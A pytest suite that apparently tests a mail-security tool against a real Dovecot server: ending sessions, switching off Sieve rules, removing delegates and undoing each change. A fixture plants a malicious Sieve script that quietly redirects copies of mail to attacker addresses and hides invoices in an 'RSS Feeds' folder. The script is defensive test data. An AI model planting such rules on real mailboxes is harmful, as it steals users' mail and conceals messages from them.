"""One account on a real Dovecot: its sessions, scripts and delegates, read and changed and given back."""

from __future__ import annotations

import pytest
from rig_desk import action, asked
from rig_server import Rig

from workbench.model.actions import ActionKind
from workbench.model.errors import NotFound, NotReadable, ProviderError
from workbench.model.mailrule_items import rules_of
from workbench.model.words import Facet, Outcome

pytestmark = pytest.mark.dovecot
pytest_plugins = ("rig_fixtures",)

LIN, ANA, BO = "lin@rig.test", "ana@rig.test", "bo@rig.test"
PEOPLE = {LIN: "pw-lin", ANA: "pw-ana", BO: "pw-bo"}
PLANTED = """require ["copy", "fileinto", "mailbox", "vacation"];\r
# rule:[发票 filter]\r
if header :contains "subject" ["invoice", "发票"] {\r
\tredirect :copy "drop@evil.example";\r
    fileinto :create "RSS Feeds";   stop;\r
}\r
redirect :copy "all@evil.example";\r
vacation "Write to lin@evil.example instead.";\r
""".encode()


def _plant(rig: Rig, name: str = "roundcube", script: bytes = PLANTED) -> None:
    client = rig.clients.sieve("127.0.0.66")
    client.login(LIN, PEOPLE[LIN])
    client.put(name, script)
    client.activate(name)
    client.close()


async def test_an_account_goes_by_the_name_that_the_server_gives_it_and_a_wildcard_by_none(rig: Rig) -> None:
    rig.people(PEOPLE)
    async with asked(rig) as provider:
        assert (await provider.account("LIN@rig.test")).address == LIN
        with pytest.raises(NotFound, match="no account"):
            await provider.account("nobody@rig.test")
        for many in ("*@rig.test", "li?@rig.test", "127.0.0.0/8", "::/0"):
            with pytest.raises(NotFound, match="one account"):
                await provider.perform(many, action(ActionKind.REVOKE_SESSIONS))


async def test_every_session_of_the_account_is_seen_and_ended_and_nobody_elses(rig: Rig) -> None:
    rig.people(PEOPLE)
    imap, pop3, smtp = rig.clients.imap("127.0.0.66"), rig.clients.pop3("127.0.0.67"), rig.clients.smtp("127.0.0.68")
    imap.login(LIN, PEOPLE[LIN])
    pop3.user(LIN)
    pop3.pass_(PEOPLE[LIN])
    smtp.ehlo()
    smtp.login(LIN, PEOPLE[LIN])
    other = rig.clients.imap("127.0.1.2")
    other.login(ANA, PEOPLE[ANA])

    async with asked(rig) as provider:
        seen = await provider.observe(LIN, Facet.SESSIONS)
        assert {(i.attrs["client"], i.attrs["ip"]) for i in seen.items} == {
            ("imap", "127.0.0.66"),
            ("pop3", "127.0.0.67"),
            ("submission", "127.0.0.68"),
        }
        first = await provider.perform(LIN, action(ActionKind.REVOKE_SESSIONS))
        again = await provider.perform(LIN, action(ActionKind.REVOKE_SESSIONS))
        left = await provider.observe(LIN, Facet.SESSIONS)
        back = rig.clients.imap("127.0.1.5")
        back.login(LIN, PEOPLE[LIN])
        (newer,) = (await provider.observe(LIN, Facet.SESSIONS)).items
        back.logout()

    assert again.effective_at is not None
    assert newer.since is not None
    assert newer.since <= again.effective_at
    assert seen.items[0].since is None
    assert (first.outcome, again.outcome) == (Outcome.DONE, Outcome.DONE)
    assert "Nobody was connected" in again.detail
    assert left.items == ()
    assert imap.is_over()
    assert other.noop()[0] == "OK"
    other.logout()
    for client in (pop3, smtp):
        client.close()


async def test_what_a_script_does_shows_as_rule_forwarding_and_automatic_reply(rig: Rig) -> None:
    rig.people(PEOPLE)
    _plant(rig)
    async with asked(rig) as provider:
        rules, forwarding, reply = [
            await provider.observe(LIN, facet) for facet in (Facet.RULES, Facet.FORWARDING, Facet.AUTO_REPLY)
        ]
        shared = {provider.resource(action(k, "x")) for k in (ActionKind.DISABLE_RULE, ActionKind.STOP_FORWARDING)}

    (planted,) = rules.items
    assert (planted.key, planted.enabled) == ("roundcube", True)
    assert planted.attrs["forwards_to"] == ["drop@evil.example", "all@evil.example"]
    assert planted.attrs["moves_to"] == "RSS Feeds"
    assert [rule.name for rule in rules_of(planted)] == ["发票 filter", None]
    assert [(i.key, i.attrs["keep_copy"]) for i in forwarding.items] == [("all@evil.example", True)]
    assert reply.items[0].attrs["text"] == "Write to lin@evil.example instead."
    assert shared == {"sieve"}


async def test_a_script_that_was_switched_off_comes_back_byte_for_byte(rig: Rig) -> None:
    rig.people(PEOPLE)
    _plant(rig)
    async with asked(rig) as provider:
        before = await provider.observe(LIN, Facet.RULES)
        (item,) = before.items
        off = await provider.perform(LIN, action(ActionKind.DISABLE_RULE, item.key))
        twice = await provider.perform(LIN, action(ActionKind.STOP_FORWARDING, "all@evil.example"))
        meanwhile = [await provider.observe(LIN, facet) for facet in (Facet.RULES, Facet.FORWARDING, Facet.AUTO_REPLY)]
        undo = action(ActionKind.ENABLE_RULE, item.key, item=item.model_dump(mode="json"), attrs=dict(before.attrs))
        on = await provider.perform(LIN, undo)
        after = await provider.observe(LIN, Facet.RULES)

    assert [r.outcome for r in (off, twice, on)] == [Outcome.DONE] * 3
    assert "off already" in twice.detail
    assert not any(i.enabled for state in meanwhile for i in state.items)
    assert after.items == before.items
    stored = rig.state / "mail" / LIN / "sieve" / "roundcube.sieve"
    assert stored.read_bytes() == PLANTED


async def test_a_script_that_was_removed_is_put_back_and_one_that_was_changed_is_left_alone(rig: Rig) -> None:
    rig.people(PEOPLE)
    _plant(rig)
    stored = rig.state / "mail" / LIN / "sieve" / "roundcube.sieve"
    async with asked(rig) as provider:
        before = await provider.observe(LIN, Facet.FORWARDING)
        await provider.perform(LIN, action(ActionKind.STOP_FORWARDING, "all@evil.example"))
        undo = action(ActionKind.RESTORE_FORWARDING, "all@evil.example", attrs=dict(before.attrs))

        stored.write_bytes(b"keep;\r\n")
        refused = await provider.perform(LIN, undo)
        assert stored.read_bytes() == b"keep;\r\n"

        stored.unlink()
        back = await provider.perform(LIN, undo)
        after = await provider.observe(LIN, Facet.FORWARDING)

    assert (refused.outcome, back.outcome) == (Outcome.FAILED, Outcome.DONE)
    assert "changed meanwhile" in refused.detail
    assert stored.read_bytes() == PLANTED
    assert after.items == before.items


async def test_a_script_that_the_active_one_takes_in_is_in_force_too(rig: Rig) -> None:
    rig.people(PEOPLE)
    _plant(rig, "hidden")
    _plant(rig, "shown", b'require "include";\r\ninclude :personal "hidden";\r\n')
    async with asked(rig) as provider:
        assert [i.enabled for i in (await provider.observe(LIN, Facet.FORWARDING)).items] == [True]
        await provider.perform(LIN, action(ActionKind.STOP_FORWARDING, "all@evil.example"))
        assert [i.enabled for i in (await provider.observe(LIN, Facet.FORWARDING)).items] == [False]


async def test_a_delegate_is_shut_out_of_an_open_folder_and_let_in_again_with_the_same_rights(rig: Rig) -> None:
    rig.people(PEOPLE)
    owner = rig.clients.imap()
    owner.login(LIN, PEOPLE[LIN])
    owner.setacl("INBOX", BO, "lrs")
    owner.logout()
    delegate = rig.clients.imap("127.0.0.66")
    delegate.login(BO, PEOPLE[BO])
    assert delegate.select(f"shared/{LIN}")[0] == "OK"

    async with asked(rig) as provider:
        before = await provider.observe(LIN, Facet.DELEGATES)
        (item,) = before.items
        assert item.attrs["rights"] == ["lookup", "read", "write-seen"]
        gone = await provider.perform(LIN, action(ActionKind.REMOVE_DELEGATE, item.key))
        assert (await provider.observe(LIN, Facet.DELEGATES)).items == ()
        assert delegate.is_over()
        undo = action(ActionKind.RESTORE_DELEGATE, item.key, item=item.model_dump(mode="json"))
        back = await provider.perform(LIN, undo)
        after = await provider.observe(LIN, Facet.DELEGATES)

    assert (gone.outcome, back.outcome) == (Outcome.DONE, Outcome.DONE)
    assert after.items == before.items


async def test_what_this_server_can_not_do_is_told_with_the_reason(rig: Rig) -> None:
    rig.people(PEOPLE)
    async with asked(rig, accounts=None, quarantine="") as provider:
        rows = {row.name: row for row in provider.support()}
        assert "accounts" in rows[Facet.PASSWORD].reason
        assert "quarantine" in rows[ActionKind.WITHDRAW_MESSAGES].reason
        with pytest.raises(NotReadable, match="database of accounts"):
            await provider.observe(LIN, Facet.PASSWORD)
        with pytest.raises(ProviderError, match="can be told"):
            await provider.perform(LIN, action(ActionKind.FORGET_DEVICES))
        with pytest.raises(NotReadable, match="events"):
            async for _ in provider.signins(LIN, None):  # type: ignore[arg-type]
                pass
